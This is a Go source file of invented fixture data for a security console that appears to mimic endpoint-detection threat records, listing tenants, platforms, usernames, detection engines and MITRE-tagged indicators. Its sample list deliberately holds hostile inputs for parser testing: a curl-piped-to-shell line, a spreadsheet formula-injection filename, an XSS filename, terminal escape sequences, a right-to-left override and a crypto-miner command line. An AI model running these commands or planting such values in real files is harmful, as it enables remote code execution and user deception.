package console

// What realistic threats are made of. Everything is invented; domains are those of RFC 2606, addresses those of
// RFC 5737 and RFC 3849. Some of it is hostile on purpose: terminals, SIEM formats and parsers meet worse.

type tenant struct{ accountID, account, siteID, site, groupID, group, domain, mail string }

var tenants = [...]tenant{
	{"1804417203311250944", "Northwind Freight AS", "1804417203823356902", "Rotterdam DC", "1804417203990128871", "Warehouse Laptops", "NWFREIGHT", "nwfreight.example"},
	{"1804417203311250944", "Northwind Freight AS", "1804417203823356902", "Rotterdam DC", "1804417203990128872", "Servers | prod=1", "NWFREIGHT", "nwfreight.example"},
	{"1804417203311250944", "Northwind Freight AS", "1804417203823356903", "Tromsø \"Nord\"", "1804417203990128873", "Default Group", "NWFREIGHT", "nwfreight.example"},
	{"1804417203311250945", "みなと銀行テスト", "1804417203823356904", "東京", "1804417203990128874", "営業部", "MINATO", "minato.example"},
	{"1804417203311250945", "みなと銀行テスト", "1804417203823356905", "Київ / Kyiv", "1804417203990128875", "R&D <lab>", "MINATO", "minato.example"},
}

type platform struct{ name, revision, kind, machine, host, home, sep string }

var platforms = [...]platform{
	{"Windows 11 Pro", "22631", "windows", "laptop", "LT", `\Device\HarddiskVolume3\Users\`, `\`},
	{"Windows 11 Enterprise", "26100", "windows", "desktop", "WS", `\Device\HarddiskVolume2\Users\`, `\`},
	{"Windows 10 Pro", "19045", "windows", "laptop", "LT", `\Device\HarddiskVolume3\Users\`, `\`},
	{"Windows Server 2022 Standard", "20348", "windows", "server", "SRV", `\Device\HarddiskVolume4\Users\`, `\`},
	{"Linux", "Ubuntu 24.04.1 LTS 6.8.0-48-generic", "linux", "server", "NODE", "/home/", "/"},
	{"macOS", "15.1 (24B83)", "macos", "laptop", "MAC", "/Users/", "/"},
}

var users = [...]string{"ines.duarte", "j.o'brien", "müller", "Søren", "佐藤", "Иванов", "مريم", "nguyễn", "svc-backup",
	"zoë", "administrator", "λάμπρος", "r.d=x|y", "SYSTEM"}

type sample struct{ file, extension, kind, arguments string }

var samples = [...]sample{
	{"CMR_scan_20261121.exe", "EXE", "Executable", `/quiet`},
	{"invoice_\u202efdp.exe", "EXE", "Executable", `-u "https://203.0.113.9/a?b=c&d=e" | more`},
	{"請求書.docm", "DOCM", "Document", `/n /f`},
	{"Счёт №12.js", "JS", "Script", `//B //Nologo`},
	{"فاتورة.pdf.lnk", "LNK", "Shortcut", ``},
	{"setup (1) 🎁.msi", "MSI", "Executable", `/i /qn TRANSFORMS="a=b;c=d"`},
	{"a|b=c\\d.ps1", "PS1", "Script", "-enc SQBFAFgA\r\n-nop"},
	{"\x1b[31mred\x1b[0m.sh", "SH", "Script", "-c 'curl -s http://198.51.100.7/x | sh'"},
	{"tab\there\u0000nul.bin", "BIN", "Unknown", `--key="va\"lue" --x=]`},
	{"<script>alert(1)</script>.html", "HTML", "Document", ``},
	{"=cmd|' /C calc'!A0.xlsm", "XLSM", "Document", `/e`},
	{"zero\u200bwidth\ufeff.dll", "DLL", "Executable", `,DllRegisterServer`},
	{"eicar.com", "COM", "Executable", ``},
	{"xmrig", "", "Unknown", `-o pool.example:3333 -u x --donate-level=1`},
}

var classifications = [...]string{"Malware", "Trojan", "Ransomware", "Infostealer", "Exploit", "PUA", "Downloader", "Manual"}

type engine struct{ key, title, old, source string }

var engines = [...]engine{
	{"pre_execution", "On-Write Static AI", "On-Write DFI", "Static"},
	{"executables", "Behavioral AI", "DBT - Executables", "Behavioral"},
	{"sentinelone_cloud", "SentinelOne Cloud", "SentinelOne Cloud", "Cloud"},
	{"user_blacklist", "User-Defined Blocklist", "User-Defined Blacklist", "Engine"},
}

type indicator struct{ category, description, id, tactic, technique, path string }

var indicators = [...]indicator{
	{"General", "Detected by the Static Engine", "43", "", "", ""},
	{"Persistence", "Application registered itself to become persistent via scheduled task", "197", "Persistence", "T1053.005", "T1053/005"},
	{"Evasion", "Process wrote to a hidden file section", "152", "Defense Evasion", "T1564.004", "T1564/004"},
	{"Ransomware", "Shadow copies were deleted by a process that is not a backup", "38", "Impact", "T1490", "T1490"},
	{"InfoStealer", "Credentials were read from a browser's store", "214", "Credential Access", "T1555.003", "T1555/003"},
	{"Discovery", "Process listed domain trusts", "88", "Discovery", "T1482", "T1482"},
	{"Exploitation", "Document started a shell", "12", "Execution", "T1059.001", "T1059/001"},
}

var originators = [...]string{"outlook.exe", "chrome.exe", "explorer.exe", "winword.exe", "bash", "Finder", "powershell.exe"}

var actions = [shownRows]string{"kill", "quarantine", "remediate", "rollback"}
